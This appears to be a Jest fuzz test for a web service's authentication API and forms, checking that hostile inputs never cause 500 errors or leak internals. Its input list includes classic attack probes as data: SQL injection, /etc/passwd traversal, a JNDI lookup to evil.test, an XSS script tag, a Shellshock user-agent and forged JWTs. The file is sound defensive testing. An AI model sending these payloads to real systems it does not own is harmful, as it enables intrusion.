import { expectDocumentedResponses } from '../support/openapi-contract';
import { rawRequest } from '../support/raw-http';
import { createAccount, expectNoInternals, signIn } from '../support/security';
import { startStack, type Stack } from '../support/stack';
import { strongPassword, uniqueEmail } from '../support/unique';

/** JSON text spliced into a body as is: nesting this deep overflows JSON.stringify in the test itself. */
class RawJson {
  constructor(readonly text: string) {}
}

const nestedArrays = (depth: number) => new RawJson(`${'['.repeat(depth)}"x"${']'.repeat(depth)}`);
const nestedObjects = (depth: number) => new RawJson(`${'{"a":'.repeat(depth)}"x"${'}'.repeat(depth)}`);

/** A JSON body: `fields` with one of them replaced by `value`, which may be raw JSON text. */
function jsonBody(fields: Record<string, unknown>, field: string, value: unknown): string {
  if (!(value instanceof RawJson)) return JSON.stringify({ ...fields, [field]: value });
  const marker = '__raw_json_marker__';
  return JSON.stringify({ ...fields, [field]: marker }).replace(`"${marker}"`, value.text);
}

const longDomain = (label: string, labels: number) => Array.from({ length: labels }, () => label).join('.');

/** Values no client should send; the service must answer every one of them below 500. */
const HOSTILE: Array<[string, unknown]> = [
  ['empty', ''],
  ['blank', '   '],
  ['huge string', 'a'.repeat(15_000)],
  ['huge non-BMP string', '🦄'.repeat(3_000)],
  ['lone high surrogate', '\ud800'],
  ['lone low surrogate', '\udfff'],
  ['reversed pair', '\udc00\ud800'],
  ['surrogate in local part', 'a\ud800b@example.com'],
  ['surrogate in domain', 'a@exa\ud800mple.com'],
  ['surrogate in name-ish text', 'Ada \ud83d Lovelace'],
  ['NUL', '\u0000'],
  ['NUL in address', 'a\u0000b@example.com'],
  ['NUL in text', 'Correct horse\u0000battery staple'],
  ['control characters', '\u0001\u0002\u001b[2J\u007f'],
  ['BOM', '\ufeff'],
  ['RTL override address', 'a\u202eb@example.com'],
  ['zero-width address', 'a\u200bb@example.com'],
  ['noncharacters', '\uffff\ufffe'],
  ['combining flood', `e${'\u0301'.repeat(5_000)}`],
  ['NFC-expanding characters', '\ufb2c'.repeat(2_000)],
  ['dotted capital I address (lowercases longer)', `${'İ'.repeat(32)}@${longDomain('İ'.repeat(60), 2)}.com`],
  ['254-character address', `${'a'.repeat(64)}@${longDomain('b'.repeat(61), 3)}.${'c'.repeat(4)}`],
  ['255-character address', `${'a'.repeat(64)}@${longDomain('b'.repeat(61), 3)}.${'c'.repeat(5)}`],
  ['very long address', `${'a'.repeat(64)}@${longDomain('b'.repeat(63), 100)}.com`],
  ['65-character local part', `${'a'.repeat(65)}@example.com`],
  ['many @', '@'.repeat(1_000)],
  ['IP-literal address', 'a@[127.0.0.1]'],
  ['IDN address', 'ñandú@exämple.com'],
  ['SQL', "' OR '1'='1' --"],
  ['SQL in address', "a'--@example.com"],
  ['path traversal', '../../../../etc/passwd'],
  ['template syntax', '{{#each this}}{{this}}{{/each}}{{> layout}}'],
  ['JNDI', '${jndi:ldap://evil.test/a}'],
  ['markup', '<script>alert(1)</script>'],
  ['percent escapes', '%00%0d%0a%ff'],
  ['backslashes', '\\'.repeat(1_000)],
  ['quotes', '"'.repeat(1_000)],
  ['JWT-looking', 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.'],
  ['digits', '12345678901234567890'],
  ['number', 12345678901234567890],
  ['negative zero', -0],
  ['huge number', 1e308],
  ['boolean', true],
  ['null', null],
  ['empty array', []],
  ['long array', Array.from({ length: 3_000 }, () => 'a')],
  ['wide object', Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`k${i}`, i]))],
  ['nested 100 arrays', nestedArrays(100)],
  ['nested 2000 arrays', nestedArrays(2_000)],
  ['nested 7000 arrays', nestedArrays(7_000)],
  ['nested 1000 objects', nestedObjects(1_000)],
  ['nested 2500 objects', nestedObjects(2_500)],
];

/**
 * A fuzz-ish sweep (ASVS 5.0 V2 validation, V16 error handling): for every JSON endpoint, every
 * field, every hostile value, and for the pages' forms and queries, the answer is below 500 and,
 * when it is an error, a problem document without internals.
 */
describe('security: fuzzing the inputs', () => {
  let stack: Stack;
  let bearer: string;
  let currentPassword: string;

  beforeAll(async () => {
    stack = await startStack({ withoutWorker: true });
    const account = await createAccount(stack, { label: 'fuzz' });
    currentPassword = account.password;
    bearer = (await signIn(stack, account.email, account.password)).accessToken;
  });
  afterAll(async () => {
    await expectDocumentedResponses(stack);
    await stack.close();
  });

  const ENDPOINTS: Array<{ path: string; body: () => Record<string, unknown>; auth?: boolean }> = [
    { path: '/auth/register', body: () => ({ email: uniqueEmail('fuzz-reg'), password: strongPassword(), name: 'Ada' }) },
    { path: '/auth/login', body: () => ({ email: uniqueEmail('fuzz-login'), password: strongPassword() }) },
    { path: '/auth/refresh', body: () => ({ refreshToken: 'A'.repeat(43) }) },
    { path: '/auth/logout', body: () => ({ refreshToken: 'A'.repeat(43) }) },
    { path: '/auth/email/confirm', body: () => ({ token: 'A'.repeat(43), password: strongPassword() }) },
    { path: '/auth/email/resend', body: () => ({ email: uniqueEmail('fuzz-resend') }) },
    { path: '/auth/password/forgot', body: () => ({ email: uniqueEmail('fuzz-forgot') }) },
    { path: '/auth/password/reset', body: () => ({ token: 'A'.repeat(43), password: strongPassword() }) },
    { path: '/auth/password/change', body: () => ({ currentPassword, newPassword: strongPassword() }), auth: true },
    { path: '/auth/oidc/exchange', body: () => ({ code: 'A'.repeat(43) }) },
  ];

  function expectSafe(status: number, text: string, contentType: string | string[] | undefined, context: unknown) {
    expect({ context, status: status < 500 }).toEqual({ context, status: true });
    if (status >= 400 && /json/.test(String(contentType))) {
      expect({ context, type: contentType }).toEqual({ context, type: expect.stringMatching(/^application\/problem\+json/) });
      expectNoInternals(text);
    }
  }

  /** The email change operations (SPEC §10), swept like the others; their own test, their own time. */
  const EMAIL_CHANGE_ENDPOINTS: typeof ENDPOINTS = [
    { path: '/users/me/email', body: () => ({ newEmail: uniqueEmail('fuzz-chg'), currentPassword }), auth: true },
    { path: '/auth/email/change/confirm', body: () => ({ token: 'A'.repeat(43) }) },
    { path: '/auth/email/change/undo', body: () => ({ token: 'A'.repeat(43) }) },
  ];

  it('answers every hostile value in every field of the email change endpoints below 500', () => sweep(EMAIL_CHANGE_ENDPOINTS), 120_000);

  it('answers every hostile value in every field of every JSON endpoint below 500', () => sweep(ENDPOINTS), 120_000);

  async function sweep(endpoints: typeof ENDPOINTS) {
    for (const { path, body, auth } of endpoints) {
      for (const field of Object.keys(body())) {
        for (const [label, value] of HOSTILE) {
          const response = await rawRequest(stack.api.baseUrl, 'POST', `/api/v1${path}`, {
            headers: { 'content-type': 'application/json', ...(auth ? { authorization: `Bearer ${bearer}` } : {}) },
            body: jsonBody(body(), field, value),
          });
          expectSafe(response.status, response.text, response.headers['content-type'], { path, field, label });
          if (path === '/auth/password/change' && field === 'newPassword' && response.status === 204) currentPassword = value as string;
        }
      }
    }
  }

  it('answers hostile whole bodies, content types and bearer headers below 500', async () => {
    const bodies: Array<[string, string]> = [
      ['nested 7000 arrays', nestedArrays(7_000).text],
      ['nested 2500 objects', nestedObjects(2_500).text],
      ['lone surrogate escape', '{"email":"\\ud800@example.com","password":"\\udfff"}'],
      ['invalid UTF-8', Buffer.from([0x7b, 0x22, 0x65, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d]).toString('latin1')],
      ['duplicate keys', '{"email":"a@example.com","email":["x"],"password":"p","password":{}}'],
      ['huge number literal', `{"email":${'9'.repeat(10_000)}}`],
      ['exponent', '{"email":1e999999}'],
    ];
    for (const { path, auth } of ENDPOINTS) {
      for (const [label, body] of bodies) {
        const response = await rawRequest(stack.api.baseUrl, 'POST', `/api/v1${path}`, {
          headers: { 'content-type': 'application/json', ...(auth ? { authorization: `Bearer ${bearer}` } : {}) },
          body: label === 'invalid UTF-8' ? Buffer.from(body, 'latin1') : body,
        });
        expectSafe(response.status, response.text, response.headers['content-type'], { path, label });
      }
      for (const type of ['application/json; charset=utf-16', 'application/json; charset=latin1', 'application/json;;;', 'APPLICATION/JSON', 'application/json\t']) {
        const response = await rawRequest(stack.api.baseUrl, 'POST', `/api/v1${path}`, {
          headers: { 'content-type': type, ...(auth ? { authorization: `Bearer ${bearer}` } : {}) },
          body: JSON.stringify({ email: uniqueEmail('fuzz-type'), password: strongPassword() }),
        });
        expectSafe(response.status, response.text, response.headers['content-type'], { path, type });
      }
    }

    const authorizations = [
      'Bearer',
      'Bearer ',
      'Bearer a.b.c',
      `Bearer ${'a'.repeat(8_000)}.${'b'.repeat(8_000)}.c`,
      'Bearer ..',
      'Bearer eyJhbGciOiJIUzI1NiJ9.bm90IGpzb24.c2ln',
      'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOnsiJG5lIjpudWxsfSwic2lkIjpbXX0.c2ln',
      'Bearer bnVsbA.bnVsbA.bnVsbA',
      `Bearer ${Buffer.from('\u0000').toString('base64url')}.e30.e30`,
      'Bearer é.é.é',
      'Basic YWRtaW46YWRtaW4=',
    ];
    for (const authorization of authorizations) {
      for (const [method, path] of [['GET', '/api/v1/users/me'], ['GET', '/api/v1/auth/sessions'], ['DELETE', '/api/v1/auth/sessions']]) {
        const response = await rawRequest(stack.api.baseUrl, method, path, { headers: { authorization } });
        expect({ authorization: authorization.slice(0, 40), path, status: response.status }).toEqual({
          authorization: authorization.slice(0, 40),
          path,
          status: 401,
        });
      }
    }
    // (Ids the router itself refuses, too long or not decodable, are http-hardening's case.)
    for (const id of ['%00', '..%2F..%2Fusers', 'a'.repeat(100), "'%20or%201=1--", '00000000-0000-0000-0000-000000000000', 'FFFFFFFF-FFFF-4FFF-BFFF-FFFFFFFFFFFF', '%7B%22%24ne%22%3Anull%7D']) {
      const response = await rawRequest(stack.api.baseUrl, 'DELETE', `/api/v1/auth/sessions/${id}`, { headers: { authorization: `Bearer ${bearer}` } });
      expectSafe(response.status, response.text, response.headers['content-type'], { id: id.slice(0, 40) });
    }
    for (const userAgent of ['é'.repeat(2_000), 'x'.repeat(8_000), '() { :; }; echo pwned']) {
      const response = await rawRequest(stack.api.baseUrl, 'POST', '/api/v1/auth/login', {
        headers: { 'content-type': 'application/json', 'user-agent': userAgent },
        body: JSON.stringify({ email: uniqueEmail('fuzz-ua'), password: strongPassword() }),
      });
      expectSafe(response.status, response.text, response.headers['content-type'], { userAgent: userAgent.slice(0, 20) });
    }
  });

  it('answers hostile values in the page forms and queries below 500', async () => {
    const forms: Record<string, string[]> = {
      '/forgot-password': ['email'],
      '/confirm-email/resend': ['email'],
      '/confirm-email': ['token'],
      '/reset-password': ['token', 'password', 'passwordConfirm'],
      '/confirm-email-change': ['token'],
      '/undo-email-change': ['token'],
    };
    const strings = HOSTILE.filter(([, value]) => typeof value === 'string') as Array<[string, string]>;
    // A real CSRF token (and its cookie, kept by the client) so the hostile values reach the handlers.
    const csrf = await stack.api.csrfToken();
    for (const [path, fields] of Object.entries(forms)) {
      for (const field of fields) {
        for (const [label, value] of strings) {
          const base: Record<string, string> = { email: uniqueEmail('fuzz-form'), token: 'A'.repeat(43), password: 'x', passwordConfirm: 'x', _csrf: csrf };
          const body = new URLSearchParams({ ...base, [field]: value }).toString();
          if (Buffer.byteLength(body) > 16 * 1024) continue;
          const response = await stack.api.request('POST', path, { body, headers: { 'content-type': 'application/x-www-form-urlencoded' } });
          expect({ path, field, label, status: response.status < 500 }).toEqual({ path, field, label, status: true });
        }
        // Raw, undecodable bytes too.
        const response = await rawRequest(stack.api.baseUrl, 'POST', path, {
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
          body: `${field}=%ED%A0%80%00%FF%C3%28&email=a%00b%40example.com`,
        });
        expect({ path, field, raw: true, status: response.status < 500 }).toEqual({ path, field, raw: true, status: true });
      }
    }
    for (const path of ['/confirm-email', '/reset-password', '/login', '/confirm-email-change', '/undo-email-change']) {
      for (const query of ['token=%00', 'token=%ED%A0%80', `token=${'A'.repeat(10_000)}`, 'token[]=a', 'token=a&token=b', 'reset=%3Cscript%3E', '%%%']) {
        const response = await rawRequest(stack.api.baseUrl, 'GET', `${path}?${query}`);
        expect({ path, query: query.slice(0, 30), status: response.status < 500 }).toEqual({ path, query: query.slice(0, 30), status: true });
      }
    }
  });
});
